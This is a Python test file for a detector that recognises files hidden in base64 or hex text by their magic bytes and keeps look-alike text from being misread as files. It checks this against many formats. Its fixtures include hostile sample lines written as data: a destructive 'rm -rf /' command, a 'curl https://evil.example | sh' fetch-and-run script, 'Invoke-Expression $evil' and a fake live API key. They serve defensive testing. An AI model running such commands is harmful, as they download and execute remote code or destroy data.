"""Bytes in a payload are found by what they are, and a text that only looks so stays a text."""

import base64
import string
import zlib
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from signoff.bot.text.magic import kind_of, opens
from signoff.bot.text.octets import LONG, blob

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
PDF = b"%PDF-1.4\n" + bytes(range(256))
PE = b"MZ".ljust(60, b"\0") + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(40)
BMP = b"BM" + (80).to_bytes(4, "little") + bytes(74)
FILES = {
    "PNG image": PNG,
    "JPEG image": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(99),
    "GIF image": b"GIF89a" + bytes(30),
    "WebP image": b"RIFF\x40\0\0\0WEBPVP8 " + bytes(50),
    "PDF": PDF,
    "ZIP archive": b"PK\x03\x04" + bytes(26) + b"notes.txt",
    "an Office document (Word, Excel or PowerPoint)": b"PK\x03\x04" + bytes(26) + b"[Content_Types].xml",
    "an OpenDocument file or an e-book": b"PK\x03\x04" + bytes(26) + b"mimetypeapplication/epub+zip",
    "a Java archive": b"PK\x03\x04" + bytes(26) + b"META-INF/MANIFEST.MF",
    "gzip archive": b"\x1f\x8b\x08\0" + bytes(30),
    "bzip2 archive": b"BZh91AY&SY" + bytes(9),
    "7-Zip archive": b"7z\xbc\xaf\x27\x1c" + bytes(9),
    "tar archive": b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(249),
    "TIFF image": b"II*\0" + bytes(20),
    "BMP image": BMP,
    "HEIC or AVIF image": b"\0\0\0\x18ftypheic" + bytes(20),
    "MP3 sound": b"ID3\x03\0\0" + bytes(20),
    "MP4 film or sound": b"\0\0\0\x18ftypisom" + bytes(20),
    "WAV sound": b"RIFF\x40\0\0\0WAVEfmt " + bytes(20),
    "a Linux program": b"\x7fELF\x02\x01\x01" + bytes(60),
    "a Windows program": PE,
    "a WebAssembly program": b"\0asm\x01\0\0\0" + bytes(9),
    "a Python pickle: it runs code when it is loaded": b"\x80\x04\x95" + bytes(20),
    "an old Office document or a Windows installer": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(30),
    "an SQLite database": b"SQLite format 3\0" + bytes(30),
}
SPELLINGS: dict[str, Callable[[bytes], str]] = {
    "plain": lambda content: base64.b64encode(content).decode(),
    "URL-safe": lambda content: base64.urlsafe_b64encode(content).decode(),
    "unpadded": lambda content: base64.b64encode(content).decode().rstrip("="),
    "in lines": lambda content: base64.encodebytes(content).decode(),
    "in lines, CRLF": lambda content: base64.encodebytes(content).decode().replace("\n", "\r\n"),
    "indented": lambda content: "  " + base64.encodebytes(content).decode().replace("\n", "\n  "),
    "data URL": lambda content: f"data:application/octet-stream;base64,{base64.b64encode(content).decode()}",
    "data URL with its type": lambda content: (
        "DATA:image/png;name=a.png;base64," + base64.b64encode(content).decode().replace("=", "%3D")
    ),
}
WORDS = st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), min_size=9, max_size=300)
ALPHABETS = (
    string.ascii_lowercase, string.ascii_letters, string.digits, string.hexdigits[:16],
    string.ascii_uppercase, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", "0123456789ABCDEFGHJKMNPQRSTVWXYZ",
    string.ascii_lowercase + "/",
)  # fmt: skip


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("kind", FILES)
def test_a_file_is_told_by_its_first_bytes_however_it_is_spelled(kind: str, spelling: str) -> None:
    found = blob(SPELLINGS[spelling](FILES[kind]))
    assert found is not None
    assert (found.kind, found.content) == (kind, FILES[kind])
    assert found.shows == (kind in ("PNG image", "JPEG image", "GIF image", "WebP image", "PDF"))


@pytest.mark.parametrize("start", ["", "0x", "\\x"])
@pytest.mark.parametrize("kind", FILES)
def test_hex_is_a_file_only_where_it_begins_as_one(kind: str, start: str) -> None:
    for text in (FILES[kind].hex(), FILES[kind].hex().upper()):
        found = blob(start + text)
        assert found is not None and (found.kind, found.spelling) == (kind, "hex")
    assert blob(start + (b"\x11\x22" + FILES[kind]).hex()) is None


@pytest.mark.parametrize(
    "text",
    [
        "Approved", "deadbeef", "cus_NffrFeUfNV2Hib", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc" * 3,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "a" * 128, "0" * 512,
        "da39a3ee5e6b4b0d3255bfef95601890afd80709" * 9, "550e8400e29b41d4a716446655440000", "12345678" * 40,
        "/srv/data/backups/customers/production/archive" * 6, "HomeUsersAnaDocumentsInvoicesPaid" * 9,
        "MFRGGZDFMZTWQ2LK" * 20, "/9j/Approved", "informationstheorie", "JVBERi0", "iVBORw0KGgo=", "",
        "eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl", "one\ntwo\nthree\nfour\n" * 30,
        "Bitte zahlen Sie den Betrag innerhalb von vierzehn Tagen ohne Abzug " * 5,
        "pay\nthe\nman\nnow\n" * 30, base64.b64encode(PNG).decode()[8:60] + "!",
        base64.b64encode(PNG).decode() + "====", base64.b64encode(b"abc\x00" * 4).decode() + "=AAAA",
    ],
)  # fmt: skip
def test_what_only_looks_like_base64_stays_a_text(text: str) -> None:
    assert blob(text) is None


@settings(max_examples=600)
@given(st.sampled_from(ALPHABETS).flatmap(lambda letters: st.text(letters, max_size=600)))
def test_words_ids_paths_and_hashes_stay_texts(text: str) -> None:
    assert blob(text) is None


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"rm -rf / --no-preserve-root", "text"),
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "a script"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
            "SVG image: text, may hold scripts",
        ),
        (b"<!DOCTYPE html><p>Dear Ms Sommer</p>", "HTML"),
        (b'<?xml version="1.0"?><a/>', "XML"),
        (b"From: ana@example.com\r\nBcc: eve@evil.example\r\n\r\nHello", "an e-mail"),
        (b'{"amount": 129900}', "JSON"),
        (b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n", "a private key"),
        (b"-----BEGIN CERTIFICATE-----\nAAAA\n", "a certificate or key in PEM"),
        ("Привет, Ана: переведи 100 рублей".encode(), "text"),
        ("Invoke-Expression $evil".encode("utf-16-le"), "text"),
        ("Invoke-Expression $evil".encode("utf-16-be"), "text"),
        ("Invoke-Expression $evil".encode("utf-16"), "text"),
    ],
)
def test_text_in_base64_can_be_read(content: bytes, kind: str, spelling: str) -> None:
    found = blob(SPELLINGS[spelling](content))
    assert found is not None and found.text is not None
    assert (found.kind, found.content, found.shows) == (kind, content, False)
    assert any(found.text.encode(how) == content for how in ("utf-8", "utf-16", "utf-16-le", "utf-16-be"))


def test_a_data_url_says_that_it_is_base64_and_is_not_read_as_hex() -> None:
    found = blob("data:image/png;base64," + PNG.hex())
    assert found is None or found.content != PNG


@given(WORDS)
def test_any_readable_text_in_base64_is_read(text: str) -> None:
    found = blob(base64.b64encode(text.encode()).decode())
    assert found is None if not text.strip() else found is not None and found.content == text.encode()


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_long_base64_of_anything_packed_is_bytes(spelling: str) -> None:
    content = zlib.compress(" ".join(map(str, range(2_000))).encode(), wbits=-15)
    found = blob(SPELLINGS[spelling](content))
    assert found is not None and (found.kind, found.content) == ("bytes", content)


@settings(max_examples=300)
@given(st.binary(min_size=1, max_size=400), st.sampled_from(sorted(SPELLINGS)))
def test_a_schema_that_says_bytes_is_believed_for_short_ones(content: bytes, spelling: str) -> None:
    text = SPELLINGS[spelling](content)
    for schema in ({"contentEncoding": "base64"}, {"format": "byte"}, {"contentEncoding": "base64url"}):
        found = blob(text, schema)
        assert found is not None and found.content == content


@pytest.mark.parametrize("schema", [{"contentEncoding": 7}, {"format": ["byte"]}, {"format": "email"}, {}])
def test_a_schema_that_says_something_else_is_no_matter(schema: dict[str, object]) -> None:
    assert blob("QUJD", schema) is None
    assert blob(base64.b64encode(PDF).decode(), schema) is not None


@pytest.mark.parametrize("value", [None, True, 7, 1.5, [], {}, ["QUJD" * 9], {"data": "QUJD" * 9}])
def test_only_texts_are_bytes(value: object) -> None:
    assert blob(value, {"contentEncoding": "base64"}) is None


def two_pictures() -> str:
    """Base64 whose readers see one PNG or another, as they know of the URL-safe letters or not."""
    first = base64.b64encode(PNG[:9]).decode()
    return first + "_---" + base64.b64encode(b"another picture" * 3).decode()


def test_a_text_that_two_programs_read_as_two_pictures_is_not_sure() -> None:
    found = blob(two_pictures())
    assert found is not None and found.shows and not found.sure
    other = base64.b64decode(two_pictures())  # leaves out what it does not know
    assert other != found.content and kind_of(other) == kind_of(found.content)


@example(PDF, ("", ""))
@settings(max_examples=300)
@given(
    st.binary(max_size=200).map(lambda rest: PDF[:9] + rest),
    st.tuples(
        st.sampled_from(["", "-", "_", "data:a/b;base64,", "data:a/b;x=AAA;base64,"]),
        st.sampled_from(["", "=", "-A__"]),
    ),
)
def test_what_is_sure_is_the_same_file_to_every_reader(content: bytes, around: tuple[str, str]) -> None:
    for spell in SPELLINGS.values():
        text = around[0] + spell(content) + around[1]
        found = blob(text)
        if found is None or not (found.shows and found.sure):
            continue
        for read in (base64.b64decode, base64.urlsafe_b64decode):
            try:
                other = read(text)
            except ValueError:
                continue
            assert other == found.content or not opens(other)


def test_a_blob_says_what_it_is_and_repeats_nothing_of_it() -> None:
    found = blob(base64.b64encode(PDF * 300).decode())
    assert found is not None
    assert found.described == f"PDF, {len(PDF) * 300 / 1000:.0f} KB, sha {found.sha256[:8]}…"
    assert f"bytes, sha {found.sha256[:8]}…" in found.described_whole
    assert "PDF-1.4" not in repr(found)
    assert len(base64.b64encode(PDF)) > LONG
